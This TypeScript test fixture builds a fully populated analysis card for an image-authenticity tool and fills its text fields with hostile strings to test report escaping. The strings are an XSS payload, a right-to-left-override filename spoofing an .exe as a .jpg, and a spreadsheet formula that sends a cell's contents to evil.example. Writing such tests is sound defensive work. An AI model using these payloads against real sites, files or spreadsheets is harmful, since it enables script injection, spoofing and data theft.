/** A card with everything on it, and hostile texts wherever texts can stand, for the tests of reports. */
import type { AnalyseRequest, FileReport, VerdictData } from '../../src/contract';
import { type Card, fileRead, finished, learned, newCard, noted, started } from '../../src/state/card';
import { makeManifest } from '../../src/weights/fixture';

export const HOSTILE = "\"><script>alert(1)</script><img src=x onerror='alert(2)'>&amp;";
/** Reads as "photoexe.jpg" where it is not made visible. */
export const TURNED = 'photo\u202egpj.exe';
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';

export const hash = 'ab'.repeat(32);

export const engine = {
  info: {
    id: 'fake-hr1-nano',
    version: '1',
    checkpoint: 'test',
    device: 'wasm',
    dtype: 'fp32',
    threads: 2,
    fallbackReason: null,
    selfTest: { passed: true, maxDifference: 1e-5, tolerance: 0.02 },
    loadMs: 900,
  },
  manifest: makeManifest([{ path: 'b', bytes: 1, sha256: hash }]),
  fallback: null,
  at: '2026-11-26T12:00:00.000Z',
} as const;

export const answer = (change: Partial<VerdictData> = {}): VerdictData => ({
  band: 'cant-tell',
  abstained: null,
  kind: null,
  pFake: 0.4,
  logit: -0.4,
  languageLogit: -1.25,
  detectorLogit: 0.5,
  realShare: 0.3,
  crops: [
    { region: { x: 0, y: 0, width: 256, height: 256 }, logit: 1.5 },
    { region: { x: 300, y: 20, width: 256, height: 256 }, logit: -0.5 },
  ],
  output: '<think>\n\n</think>\n\nreal',
  ...change,
});

export const metadata = (text: string): FileReport => ({
  format: 'png',
  bytes: 1234,
  size: { width: 900, height: 600 },
  origin: 'ai-generated',
  declarations: [
    {
      claim: 'ai-generated',
      by: text,
      declaredIn: 'png-text',
      field: text,
      quote: text,
      backing: 'unsigned',
      standing: 'counts',
    },
  ],
  credentials: {
    intact: true,
    listed: false,
    signer: text,
    signedAt: text,
    maker: text,
    title: text,
    actions: [{ action: text, by: text, sourceType: text, when: text }],
    ingredients: [{ title: text, relationship: text, credentials: 'none', ai: true }],
    failures: [text],
    listDate: '2026-08-05',
  },
  camera: { maker: text, model: text, lens: text, takenAt: text, exposure: text },
  place: { latitude: 52.520008, longitude: 13.404954 },
  software: [text],
  jpeg: null,
  findings: [{ kind: 'saved-by-software', detail: text }],
});

/** A finished card whose every free text is `text`. */
export function fullCard(text: string, name = text): Card {
  const request: AnalyseRequest = { question: text, mode: 'explain', maxNewTokens: 40 };
  let card = newCard({ id: 'card-1', name, bytes: 1234, url: 'blob:1', request });
  card = started(noted(fileRead(card, { ok: true, value: metadata(text) }), text));
  for (const event of [
    {
      kind: 'received',
      format: 'png',
      bytes: 1234,
      width: 900,
      height: 600,
      hasExif: false,
      animated: false,
      decoder: 'image-bitmap',
    },
    { kind: 'verdict', verdict: answer(), ms: 300 },
    { kind: 'gate', pThink: 0.7, thinks: true, decidedBy: 'request' },
    { kind: 'evidence', evidence: [{ id: 'noise', name: text, value: 0.125, bin: 4, reportable: true }] },
    { kind: 'reasoning', text: `${text} in place 2. `, references: [{ kind: 'crop', index: 1 }] },
  ] as const)
    card = learned(card, structuredClone(event) as Parameters<typeof learned>[1], engine);
  return finished(
    card,
    {
      kind: 'final',
      verdict: answer({ logit: -0.6, pFake: 0.35, output: text }),
      thought: true,
      tokens: 31,
      stance: 'real',
      ms: 1100,
    },
    engine,
  );
}
